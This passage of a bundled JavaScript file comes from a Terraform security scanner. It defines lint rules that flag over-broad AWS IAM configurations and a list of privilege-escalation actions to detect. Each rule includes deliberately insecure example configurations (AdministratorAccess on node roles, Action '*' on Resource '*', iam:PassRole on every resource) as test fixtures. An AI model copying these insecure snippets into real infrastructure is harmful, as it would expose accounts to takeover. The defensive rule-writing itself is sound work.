`,
        errors: [{ line: 3, column: 3, messageIncludes: "api: DB_PASSWORD" }]
      }
    ]
  }
});
function parseDefinitions(value) {
  if (Array.isArray(value)) return value;
  if (typeof value !== "string") return void 0;
  try {
    const parsed = JSON.parse(value);
    return Array.isArray(parsed) ? parsed : void 0;
  } catch {
    return void 0;
  }
}

// packages/rules/src/support/aws-role-access.ts
var ADMIN_MANAGED_POLICIES = /* @__PURE__ */ new Map([
  ["AdministratorAccess", "the AWS-managed AdministratorAccess policy"],
  ["IAMFullAccess", "the AWS-managed IAMFullAccess policy (it can grant itself anything)"]
]);
function adminGrantsOf(graph, role) {
  const grants = [];
  for (const policy of rolePolicies(graph, role)) {
    if (policy.awsManaged) {
      const description = ADMIN_MANAGED_POLICIES.get(policy.awsManaged);
      if (description) grants.push({ resource: policy.resource, at: policy.at, description });
      continue;
    }
    if (!policy.document) continue;
    for (const statement of readPolicy(policy.document.document) ?? []) {
      if (statement.partial || statement.effect !== "Allow" || !statement.resources.includes("*")) continue;
      if (statement.notActions.length > 0) continue;
      const action = statement.actions.find((candidate) => candidate === "*" || grantsAllOfIam(candidate));
      if (!action) continue;
      const label = statement.sid ? `statement "${statement.sid}"` : `statement ${statement.index + 1}`;
      const source = policy.document.resource;
      grants.push({
        resource: source,
        at: policy.document.statementAt(statement.index),
        description: `${source.name} (${label}: ${action === "*" ? "every action" : `"${action}"`} on every resource)`
      });
    }
  }
  return unique(grants);
}
function grantsAllOfIam(action) {
  return ["iam:AttachRolePolicy", "iam:PutRolePolicy", "iam:CreatePolicyVersion"].every((needed) => actionMatches(action, needed));
}
function unique(grants) {
  const seen = /* @__PURE__ */ new Set();
  return grants.filter((grant) => {
    const key = `${grant.resource.id}${grant.at.join("")}`;
    if (seen.has(key)) return false;
    seen.add(key);
    return true;
  });
}
function describeAdminGrants(grants) {
  const [first, ...rest] = grants;
  if (!first) return "";
  return rest.length === 0 ? first.description : `${first.description} and ${rest.length} more`;
}
function adminRolesDesignatedBy(graph, resource, attribute) {
  return rolesDesignatedBy(graph, resource, attribute).flatMap((role) => {
    const grants = adminGrantsOf(graph, role);
    return grants.length > 0 ? [{ role, grants }] : [];
  });
}
function adminRoleRelated(admin) {
  return [
    { resource: admin.role.id, message: `the role ${admin.role.name}` },
    ...admin.grants.map((grant) => ({ resource: grant.resource.id, at: grant.at, message: `grants administrator access: ${grant.description}` }))
  ];
}

// packages/rules/src/terraform/iam/aws-eks-node-group-admin-role.ts
var aws_eks_node_group_admin_role_default = defineRule({
  meta: {
    id: "aws-eks-node-group-admin-role",
    title: "EKS node group runs with an administrator role",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_eks_node_group"],
    description: "The node role of the group is an administrator of the account. Every pod scheduled on these nodes can read the node's credentials from the instance metadata service unless IMDS is locked down, so one compromised container (or anyone allowed to create pods) becomes an account administrator.",
    remediation: "Give the node role only `AmazonEKSWorkerNodePolicy`, `AmazonEC2ContainerRegistryReadOnly` and the CNI policy; grant workloads their own permissions through IRSA or EKS Pod Identity, and require IMDSv2 with a hop limit of 1.",
    precision: "high",
    cwe: ["CWE-250", "CWE-269"],
    tags: ["eks", "iam", "iam-wildcard", "least-privilege"],
    references: ["https://docs.aws.amazon.com/eks/latest/userguide/create-node-role.html"]
  },
  check(group, { graph, report }) {
    const [admin] = adminRolesDesignatedBy(graph, group, ["node_role_arn"]);
    if (!admin) return;
    report({
      at: ["node_role_arn"],
      message: `${group.name} nodes run as ${admin.role.name}, an administrator role through ${describeAdminGrants(admin.grants)}; any pod can take its credentials`,
      related: adminRoleRelated(admin)
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_iam_role" "nodes" {
  name               = "eks-nodes"
  assume_role_policy = jsonencode({ Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { Service = "ec2.amazonaws.com" } }] })
  managed_policy_arns = [
    "arn:aws:iam::aws:policy/AmazonEKSWorkerNodePolicy",
    "arn:aws:iam::aws:policy/AmazonEC2ContainerRegistryReadOnly",
    "arn:aws:iam::aws:policy/AmazonEKS_CNI_Policy",
  ]
}

resource "aws_eks_node_group" "default" {
  cluster_name  = "main"
  node_role_arn = aws_iam_role.nodes.arn
  subnet_ids    = ["subnet-0a1b2c3d"]
  scaling_config {
    desired_size = 2
    max_size     = 3
    min_size     = 1
  }
}
`
      }
    ],
    invalid: [
      {
        name: "AdministratorAccess among the role's managed policies",
        filename: "main.tf",
        code: `resource "aws_iam_role" "nodes" {
  name               = "eks-nodes"
  assume_role_policy = jsonencode({ Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { Service = "ec2.amazonaws.com" } }] })
  managed_policy_arns = [
    "arn:aws:iam::aws:policy/AmazonEKSWorkerNodePolicy",
    "arn:aws:iam::aws:policy/AdministratorAccess",
  ]
}

resource "aws_eks_node_group" "default" {
  cluster_name  = "main"
  node_role_arn = aws_iam_role.nodes.arn
  subnet_ids    = ["subnet-0a1b2c3d"]
}
`,
        errors: [{ line: 12, column: 3, messageIncludes: "AdministratorAccess" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-iam-admin-managed-policy-attached.ts
var ADMIN_POLICIES = /* @__PURE__ */ new Map([
  ["AdministratorAccess", "full administrator access"],
  ["PowerUserAccess", "every action outside IAM and Organizations"],
  ["IAMFullAccess", "full IAM access, enough to grant itself anything"]
]);
var AWS_MANAGED_ARN = /^arn:aws[a-z-]*:iam::aws:policy\/(?:[\w+=,.@/-]*\/)?([\w+=,.@-]+)$/;
var POLICY_ARNS = {
  aws_iam_role_policy_attachment: "policy_arn",
  aws_iam_user_policy_attachment: "policy_arn",
  aws_iam_group_policy_attachment: "policy_arn",
  aws_iam_policy_attachment: "policy_arn",
  aws_iam_role: "managed_policy_arns",
  aws_iam_user: "managed_policy_arns",
  aws_iam_group: "managed_policy_arns"
};
var aws_iam_admin_managed_policy_attached_default = defineRule({
  meta: {
    id: "aws-iam-admin-managed-policy-attached",
    title: "AWS-managed AdministratorAccess, PowerUserAccess or IAMFullAccess policy attached",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: Object.keys(POLICY_ARNS),
    description: "The AWS-managed `AdministratorAccess`, `PowerUserAccess` or `IAMFullAccess` policy is attached to a role, user or group. Each makes its holder an administrator in practice (IAMFullAccess can attach any policy to itself), so any workload, pipeline or person using the identity can take over the account.",
    remediation: "Attach a customer-managed policy with the actions and resources the identity needs. Keep administrator access for a few break-glass roles that require MFA, and grant it through IAM Identity Center permission sets rather than Terraform-managed attachments.",
    precision: "very-high",
    cwe: ["CWE-269"],
    frameworks: { "CIS AWS Foundations 3.0": ["1.16"] },
    tags: ["iam", "least-privilege", "full-admin", "iam-wildcard"],
    references: [
      "https://docs.aws.amazon.com/aws-managed-policy/latest/reference/AdministratorAccess.html",
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/access_policies_job-functions.html"
    ]
  },
  check(resource, { report }) {
    const attribute = POLICY_ARNS[resource.type];
    const value = resource.attributes[attribute];
    const paths = Array.isArray(value) ? value.map((_, index) => [attribute, index]) : [[attribute]];
    for (const path of paths) {
      const arn = getPath(resource.attributes, path);
      if (typeof arn !== "string") continue;
      const name = AWS_MANAGED_ARN.exec(arn)?.[1];
      const grants = name ? ADMIN_POLICIES.get(name) : void 0;
      if (!name || !grants) continue;
      report({ at: path, message: `${resource.name} attaches the AWS-managed ${name} policy (${grants})` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_iam_role_policy_attachment" "ssm" {
  role       = aws_iam_role.app.name
  policy_arn = "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"
}

resource "aws_iam_role_policy_attachment" "custom" {
  role       = aws_iam_role.app.name
  policy_arn = aws_iam_policy.app.arn
}
`
      }
    ],
    invalid: [
      {
        name: "attachment to a role",
        filename: "main.tf",
        code: `resource "aws_iam_role_policy_attachment" "ci_admin" {
  role       = aws_iam_role.ci.name
  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"
}
`,
        errors: [{ line: 3, column: 3, messageIncludes: "AdministratorAccess" }]
      },
      {
        name: "managed_policy_arns on the role",
        filename: "main.tf",
        code: `resource "aws_iam_role" "ops" {
  name               = "ops"
  assume_role_policy = data.aws_iam_policy_document.ops_trust.json
  managed_policy_arns = [
    "arn:aws:iam::aws:policy/ReadOnlyAccess",
    "arn:aws:iam::aws:policy/IAMFullAccess",
  ]
}
`,
        errors: [{ line: 6, column: 5, messageIncludes: "IAMFullAccess" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-iam-password-policy-reuse-allowed.ts
var REMEMBERED = 24;
var aws_iam_password_policy_reuse_allowed_default = defineRule({
  meta: {
    id: "aws-iam-password-policy-reuse-allowed",
    title: "IAM account password policy does not prevent password reuse",
    severity: "low",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_iam_account_password_policy"],
    description: "The account password policy does not remember the last 24 passwords. Users then rotate back to an old password, and a password leaked once stays valid after it was supposedly changed.",
    remediation: "Set `password_reuse_prevention = 24`.",
    precision: "very-high",
    cwe: ["CWE-521"],
    frameworks: { "CIS AWS Foundations 3.0": ["1.9"] },
    tags: ["iam", "password-policy", "authn"],
    references: ["https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_passwords_account-policy.html"]
  },
  check(policy, { report }) {
    const remembered = policy.attributes.password_reuse_prevention;
    if (isUnknown(remembered)) return;
    if (remembered === void 0 || remembered === null) {
      report({ message: `${policy.name} does not set password_reuse_prevention; old passwords may be reused` });
    } else if (typeof remembered === "number" && remembered < REMEMBERED) {
      report({ at: ["password_reuse_prevention"], message: `${policy.name} remembers only ${remembered} previous passwords; prevent reuse of the last ${REMEMBERED}` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_iam_account_password_policy" "strict" {
  minimum_password_length   = 14
  password_reuse_prevention = 24
}
`
      }
    ],
    invalid: [
      {
        name: "not set",
        filename: "main.tf",
        code: `resource "aws_iam_account_password_policy" "default" {
  minimum_password_length = 14
}
`,
        errors: [{ line: 1, column: 1 }]
      },
      {
        name: "too few remembered",
        filename: "main.tf",
        code: `resource "aws_iam_account_password_policy" "default" {
  minimum_password_length   = 14
  password_reuse_prevention = 3
}
`,
        errors: [{ line: 3, column: 3, messageIncludes: "only 3" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-iam-password-policy-short-minimum-length.ts
var MINIMUM = 14;
var aws_iam_password_policy_short_minimum_length_default = defineRule({
  meta: {
    id: "aws-iam-password-policy-short-minimum-length",
    title: "IAM account password policy allows passwords shorter than 14 characters",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_iam_account_password_policy"],
    description: "The account password policy accepts console passwords shorter than 14 characters (AWS's default minimum is 8). Short passwords fall to guessing and credential-stuffing far sooner, and console access of an IAM user is often all an attacker needs.",
    remediation: "Set `minimum_password_length = 14` or more, and require MFA for console users (or move them to IAM Identity Center).",
    precision: "very-high",
    cwe: ["CWE-521"],
    frameworks: { "CIS AWS Foundations 3.0": ["1.8"] },
    tags: ["iam", "password-policy", "authn"],
    references: [
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_passwords_account-policy.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/iam_account_password_policy"
    ]
  },
  check(policy, { report }) {
    const length = policy.attributes.minimum_password_length;
    if (isUnknown(length)) return;
    if (length === void 0 || length === null) {
      report({ message: `${policy.name} does not set minimum_password_length; passwords may be shorter than ${MINIMUM} characters` });
    } else if (typeof length === "number" && length < MINIMUM) {
      report({ at: ["minimum_password_length"], message: `${policy.name} allows passwords of ${length} characters; require at least ${MINIMUM}` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_iam_account_password_policy" "strict" {
  minimum_password_length   = 16
  password_reuse_prevention = 24
}
`
      }
    ],
    invalid: [
      {
        name: "too short",
        filename: "main.tf",
        code: `resource "aws_iam_account_password_policy" "default" {
  minimum_password_length   = 8
  password_reuse_prevention = 24
}
`,
        errors: [{ line: 2, column: 3, messageIncludes: "8 characters" }]
      },
      {
        name: "not set",
        filename: "main.tf",
        code: `resource "aws_iam_account_password_policy" "default" {
  require_symbols           = true
  password_reuse_prevention = 24
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-iam-policy-admin-access.ts
var POLICY_ATTRIBUTE = {
  aws_iam_policy: "policy",
  aws_iam_role_policy: "policy",
  aws_iam_user_policy: "policy",
  aws_iam_group_policy: "policy"
};
var aws_iam_policy_admin_access_default = defineRule({
  meta: {
    id: "aws-iam-policy-admin-access",
    title: "IAM policy grants every action on every resource",
    severity: "critical",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: Object.keys(POLICY_ATTRIBUTE),
    description: 'A statement allows `Action: "*"` on `Resource: "*"`: whoever holds the policy is an administrator of the account, able to create users, read every secret and delete every resource.',
    remediation: "Grant only the actions and resources the workload needs; start from the access actually used (IAM Access Analyzer can generate a policy from CloudTrail activity).",
    precision: "very-high",
    cwe: ["CWE-269"],
    frameworks: { "CIS AWS Foundations 3.0": ["1.16"] },
    tags: ["iam", "least-privilege", "iam-wildcard"],
    references: ["https://docs.aws.amazon.com/IAM/latest/UserGuide/best-practices.html#grant-least-privilege"]
  },
  check(policy, { report }) {
    const attribute = POLICY_ATTRIBUTE[policy.type];
    for (const statement of readPolicy(policy.attributes[attribute]) ?? []) {
      if (!grantsFullAdmin(statement)) continue;
      const label = statement.sid ? `statement "${statement.sid}"` : `statement ${statement.index + 1}`;
      report({ at: [attribute], message: `${policy.name}: ${label} allows every action on every resource` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_iam_policy" "reader" {
  name = "reader"
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Action = ["s3:GetObject"], Resource = "arn:aws:s3:::artifacts/*" }]
  })
}
`
      }
    ],
    invalid: [
      {
        name: "jsonencode",
        filename: "main.tf",
        code: `resource "aws_iam_policy" "admin" {
  name = "admin"
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Sid = "All", Effect = "Allow", Action = "*", Resource = "*" }]
  })
}
`,
        errors: [{ line: 3, column: 3, messageIncludes: 'statement "All"' }]
      },
      {
        name: "heredoc JSON in an inline role policy",
        filename: "main.tf",
        code: `resource "aws_iam_role_policy" "ops" {
  role   = aws_iam_role.ops.id
  policy = <<EOF
{
  "Version": "2012-10-17",
  "Statement": [{ "Effect": "Allow", "Action": ["*"], "Resource": ["*"] }]
}
EOF
}
`,
        errors: [{ line: 3, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-iam-policy-allow-not-action.ts
var aws_iam_policy_allow_not_action_default = defineRule({
  meta: {
    id: "aws-iam-policy-allow-not-action",
    title: "IAM policy uses NotAction with Allow",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: IDENTITY_POLICY_TYPES,
    description: "An `Allow` statement with `NotAction` grants every action except the listed ones, including actions of services AWS launches later. It is almost always far broader than intended: `NotAction: iam:*` on `*` is still administrator access to everything else.",
    remediation: "Allow the actions the workload needs with `Action`. Keep `NotAction` for `Deny` statements (deny everything except…), where it narrows instead of widening.",
    precision: "very-high",
    cwe: ["CWE-269"],
    tags: ["iam", "least-privilege", "iam-wildcard"],
    references: ["https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_notaction.html"]
  },
  check(resource, { graph, report }) {
    for (const policy of identityPoliciesOf(graph, resource)) {
      for (const statement of policy.statements) {
        if (statement.effect !== "Allow" || statement.notActions.length === 0) continue;
        const where = statement.resources.includes("*") ? "on every resource" : "on its resources";
        report({
          at: policy.at,
          message: `${resource.name}: ${statementLabel(statement)} allows every action except ${statement.notActions.join(", ")} ${where} (Allow with NotAction)`,
          related: policy.related(statement)
        });
      }
    }
  },
  examples: {
    valid: [
      {
        name: "NotAction in a Deny statement",
        filename: "main.tf",
        code: `resource "aws_iam_policy" "require_mfa" {
  name = "require-mfa"
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Deny"
      NotAction = ["iam:ChangePassword", "sts:GetSessionToken"]
      Resource  = "*"
      Condition = { BoolIfExists = { "aws:MultiFactorAuthPresent" = "false" } }
    }]
  })
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_iam_group_policy" "developers" {
  name  = "developers"
  group = aws_iam_group.developers.name
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", NotAction = ["iam:*", "organizations:*"], Resource = "*" }]
  })
}
`,
        errors: [{ line: 4, column: 3, messageIncludes: "except iam:*, organizations:*" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-iam-policy-allow-not-resource.ts
var aws_iam_policy_allow_not_resource_default = defineRule({
  meta: {
    id: "aws-iam-policy-allow-not-resource",
    title: "IAM policy uses NotResource with Allow",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: IDENTITY_POLICY_TYPES,
    description: "An `Allow` statement with `NotResource` grants its actions on every resource except the listed ones: every other bucket, table or key in the account, and every one created later. The exception list rarely stays in step with what should really be reachable.",
    remediation: "Name the resources the statement applies to with `Resource`. Use `NotResource` only in `Deny` statements.",
    precision: "very-high",
    cwe: ["CWE-269"],
    tags: ["iam", "least-privilege", "iam-wildcard"],
    references: ["https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_notresource.html"]
  },
  check(resource, { graph, report }) {
    for (const policy of identityPoliciesOf(graph, resource)) {
      for (const statement of policy.statements) {
        if (statement.effect !== "Allow" || statement.notResources.length === 0) continue;
        report({
          at: policy.at,
          message: `${resource.name}: ${statementLabel(statement)} allows ${actionsText(statement)} on every resource except ${statement.notResources.join(", ")} (Allow with NotResource)`,
          related: policy.related(statement)
        });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_iam_policy" "protect_audit" {
  name = "protect-audit"
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [
      { Effect = "Allow", Action = "s3:GetObject", Resource = "arn:aws:s3:::acme-reports/*" },
      { Effect = "Deny", Action = "s3:*", NotResource = ["arn:aws:s3:::acme-reports", "arn:aws:s3:::acme-reports/*"] }
    ]
  })
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `data "aws_iam_policy_document" "reader" {
  statement {
    sid           = "AllButAudit"
    actions       = ["s3:GetObject"]
    not_resources = ["arn:aws:s3:::acme-audit/*"]
  }
}

resource "aws_iam_role_policy" "reader" {
  role   = aws_iam_role.reader.id
  policy = data.aws_iam_policy_document.reader.json
}
`,
        errors: [{ line: 11, column: 3, messageIncludes: 'statement "AllButAudit" allows s3:GetObject on every resource except' }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-iam-policy-sensitive-action-any-resource.ts
var SENSITIVE_ACTIONS = [
  "iam:PassRole",
  "sts:AssumeRole",
  "iam:CreateAccessKey",
  "iam:CreateLoginProfile",
  "iam:UpdateLoginProfile",
  "iam:AttachUserPolicy",
  "iam:AttachGroupPolicy",
  "iam:AttachRolePolicy",
  "iam:PutUserPolicy",
  "iam:PutGroupPolicy",
  "iam:PutRolePolicy",
  "iam:CreatePolicyVersion",
  "iam:SetDefaultPolicyVersion",
  "iam:UpdateAssumeRolePolicy",
  "iam:AddUserToGroup"
];
var WHOLE_SERVICE = /^(\*|[a-z0-9-]+:\*)$/i;
var aws_iam_policy_sensitive_action_any_resource_default = defineRule({
  meta: {
    id: "aws-iam-policy-sensitive-action-any-resource",
    title: 'IAM policy allows iam:PassRole, sts:AssumeRole or IAM write actions on Resource "*"',
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: IDENTITY_POLICY_TYPES,
    description: "A statement allows a privilege-escalation action (`iam:PassRole`, `sts:AssumeRole`, `iam:AttachRolePolicy`, `iam:CreateAccessKey`…) on every resource. With `iam:PassRole` on `*` a workload can hand any role, an administrator role included, to a service it controls; with `sts:AssumeRole` on `*` it can become any role that trusts its account; the IAM write actions let it grant itself anything.",
    remediation: "Name the role ARNs that may be passed or assumed (and add an `iam:PassedToService` condition to `iam:PassRole`); scope IAM write actions to the users, groups or roles the workload manages.",
    precision: "high",
    cwe: ["CWE-269"],
    tags: ["iam", "least-privilege", "privilege-escalation", "sensitive-actions"],
    references: [
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_use_passrole.html",
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/best-practices.html#grant-least-privilege"
    ]
  },
  check(resource, { graph, report }) {
    for (const policy of identityPoliciesOf(graph, resource)) {
      for (const statement of policy.statements) {
        if (statement.effect !== "Allow" || !statement.resources.includes("*")) continue;
        const granted = SENSITIVE_ACTIONS.filter(
          (sensitive) => statement.actions.some((action) => !WHOLE_SERVICE.test(action) && actionMatches(action, sensitive))
        );
        if (granted.length === 0) continue;
        report({
          at: policy.at,
          message: `${resource.name}: ${statementLabel(statement)} allows sensitive actions ${granted.join(", ")} on every resource (Resource "*")`,
          related: policy.related(statement)
        });
      }
    }
  },
  examples: {
    valid: [
      {
        name: "PassRole limited to one role and service",
        filename: "main.tf",
        code: `resource "aws_iam_role_policy" "scheduler" {
  role = aws_iam_role.scheduler.id
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Allow"
      Action    = "iam:PassRole"
      Resource  = "arn:aws:iam::123456789012:role/batch-job"
      Condition = { StringEquals = { "iam:PassedToService" = "batch.amazonaws.com" } }
    }]
  })
}
`
      }
    ],
    invalid: [
      {
        name: "PassRole and AssumeRole on everything",
        filename: "main.tf",
        code: `resource "aws_iam_policy" "deployer" {
  name = "deployer"
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [
      { Sid = "Logs", Effect = "Allow", Action = "logs:PutLogEvents", Resource = "*" },
      { Sid = "Roles", Effect = "Allow", Action = ["iam:PassRole", "sts:AssumeRole"], Resource = "*" }
    ]
  })
}
`,
        errors: [{ line: 3, column: 3, messageIncludes: 'statement "Roles" allows sensitive actions iam:PassRole, sts:AssumeRole' }]
      },
      {
        name: "partial wildcard in a role's inline policy",
        filename: "main.tf",
        code: `resource "aws_iam_role" "builder" {
  name               = "builder"
  assume_role_policy = data.aws_iam_policy_document.codebuild_trust.json

  inline_policy {
    name = "attach"
    policy = jsonencode({
      Version   = "2012-10-17"
      Statement = [{ Effect = "Allow", Action = "iam:Attach*", Resource = "*" }]
    })
  }
}
`,
        errors: [{ line: 7, column: 5, messageIncludes: "iam:AttachRolePolicy" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-iam-policy-service-wildcard.ts
var SERVICE_WILDCARD = /^[a-z0-9-]+:\*$/i;
var aws_iam_policy_service_wildcard_default = defineRule({
  meta: {
    id: "aws-iam-policy-service-wildcard",
    title: "IAM policy allows service-wide wildcard actions (s3:*, ec2:*) on every resource",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: IDENTITY_POLICY_TYPES,
    description: 'A statement allows every action of a service (`s3:*`, `ec2:*`, `iam:*`…) on `Resource: "*"`. Whoever holds the policy can read and delete every bucket, terminate every instance or rewrite IAM in the account, well beyond what one workload needs; a leaked credential becomes an account-wide incident.',
    remediation: "List the actions the workload calls (`s3:GetObject`, `s3:PutObject`…) and the ARNs it works on. IAM Access Analyzer can generate a least-privilege policy from the role's CloudTrail activity.",
    precision: "very-high",
    cwe: ["CWE-269"],
    tags: ["iam", "least-privilege", "iam-wildcard"],
    references: [
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/best-practices.html#grant-least-privilege",
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_action.html"
    ]
  },
  check(resource, { graph, report }) {
    for (const policy of identityPoliciesOf(graph, resource)) {
      for (const statement of policy.statements) {
        if (statement.effect !== "Allow" || grantsFullAdmin(statement) || !statement.resources.includes("*")) continue;
        const wildcards = statement.actions.filter((action) => SERVICE_WILDCARD.test(action));
        if (wildcards.length === 0) continue;
        report({
          at: policy.at,
          message: `${resource.name}: ${statementLabel(statement)} allows wildcard actions ${wildcards.join(", ")} on every resource (Resource "*")`,
          related: policy.related(statement)
        });
      }
    }
  },
  examples: {
    valid: [
      {
        name: "named actions on named buckets",
        filename: "main.tf",
        code: `resource "aws_iam_role_policy" "uploader" {
  role = aws_iam_role.uploader.id
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect   = "Allow"
      Action   = ["s3:PutObject", "s3:GetObject"]
      Resource = "arn:aws:s3:::acme-uploads/*"
    }]
  })
}
`
      },
      {
        name: "service wildcard on one bucket",
        filename: "main.tf",
        code: `resource "aws_iam_policy" "scratch" {
  name   = "scratch-bucket"
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Action = "s3:*", Resource = ["arn:aws:s3:::acme-scratch", "arn:aws:s3:::acme-scratch/*"] }]
  })
}
`
      }
    ],
    invalid: [
      {
        name: "heredoc user policy",
        filename: "main.tf",
        code: `resource "aws_iam_user_policy" "ci" {
  name = "ci"
  user = aws_iam_user.ci.name

  policy = <<EOF
{
  "Version": "2012-10-17",
  "Statement": [
    {
      "Effect": "Allow",
      "Action": ["ec2:*", "s3:*", "logs:CreateLogStream"],
      "Resource": "*"
    }
  ]
}
EOF
}
`,
        errors: [{ line: 5, column: 3, messageIncludes: "ec2:*, s3:*" }]
      },
      {
        name: "policy document data source",
        filename: "main.tf",
        code: `data "aws_iam_policy_document" "ops" {
  statement {
    actions   = ["rds:*"]
    resources = ["*"]
  }
}

resource "aws_iam_policy" "ops" {
  name   = "ops"
  policy = data.aws_iam_policy_document.ops.json
}
`,
        errors: [{ line: 10, column: 3, messageIncludes: "rds:*" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-iam-role-cross-account-trust-without-external-id.ts
var ACCOUNT_PRINCIPAL = /^(?:arn:aws[a-z-]*:iam::)?(\d{12})(?::|$)/;
var GUARDING_KEYS = /* @__PURE__ */ new Set(["sts:externalid", "aws:principalorgid", "aws:principalorgpaths", "aws:multifactorauthpresent", "aws:multifactorauthage"]);
var aws_iam_role_cross_account_trust_without_external_id_default = defineRule({
  meta: {
    id: "aws-iam-role-cross-account-trust-without-external-id",
    title: "IAM role trusts another AWS account without an ExternalId condition",
    severity: "low",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_iam_role"],
    description: "The trust policy lets principals of an account named by number assume the role, with no `sts:ExternalId`, organisation or MFA condition. When that account is a vendor's, any of the vendor's customers can make the vendor assume this role for them (the confused deputy problem).",
    remediation: "Require the external id the third party gave you (`StringEquals` on `sts:ExternalId`); for accounts of your own organisation, add an `aws:PrincipalOrgID` condition or require MFA.",
    precision: "medium",
    cwe: ["CWE-441"],
    tags: ["iam", "trust-policy", "cross-account", "confused-deputy"],
    references: ["https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_create_for-user_externalid.html"]
  },
  check(role, { graph, report }) {
    const policy = policyAt(graph, role, ["assume_role_policy"]);
    for (const statement of policy?.statements ?? []) {
      if (statement.partial || statement.effect !== "Allow" || typeof statement.principal !== "object") continue;
      if (!statement.actions.some((action) => actionMatches(action, "sts:AssumeRole"))) continue;
      const accounts = [...new Set((statement.principal.AWS ?? []).flatMap((principal) => ACCOUNT_PRINCIPAL.exec(principal)?.[1] ?? []))];
      if (accounts.length === 0) continue;
      const guarded = Object.values(statement.conditions).some((keys) => Object.keys(keys).some((key) => GUARDING_KEYS.has(key.toLowerCase())));
      if (guarded) continue;
      report({
        at: policy.at,
        message: `${role.name}: trust policy ${statementLabel(statement)} lets account ${accounts.join(", ")} assume the role without an sts:ExternalId condition (cross-account trust)`,
        related: policy.related(statement)
      });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_iam_role" "vendor" {
  name = "vendor-monitoring"
  assume_role_policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Allow"
      Action    = "sts:AssumeRole"
      Principal = { AWS = "arn:aws:iam::210987654321:root" }
      Condition = { StringEquals = { "sts:ExternalId" = "acme-7f3c" } }
    }]
  })
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_iam_role" "vendor" {
  name = "vendor-monitoring"
  assume_role_policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { AWS = "arn:aws:iam::210987654321:root" } }]
  })
}
`,
        errors: [{ line: 3, column: 3, messageIncludes: "210987654321" }]
      }
    ]
  }
});

// packages/rules/src/support/github-oidc-role.ts
function githubTrustFinding(graph, role) {
  const trust = broadestTrust(githubOidcTrust(graph, role));
  if (!trust) return void 0;
  const related = [];
  if (trust.resource !== role) related.push({ resource: trust.resource.id, at: trust.at, message: `the trust statement in ${trust.resource.name}` });
  for (const step of graph.sources(role.id, "assumes")) {
    if (step.platform === "github-actions") related.push({ resource: step.id, at: ["with", "role-to-assume"], message: `assumed by ${step.name} of ${step.source.file}` });
  }
  return { trust, at: trust.resource === role ? trust.at : ["assume_role_policy"], related };
}

// packages/rules/src/terraform/iam/aws-iam-role-github-oidc-any-repository.ts
var aws_iam_role_github_oidc_any_repository_default = defineRule({
  meta: {
    id: "aws-iam-role-github-oidc-any-repository",
    title: "IAM role trusts GitHub Actions OIDC tokens from any repository",
    severity: "critical",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_iam_role"],
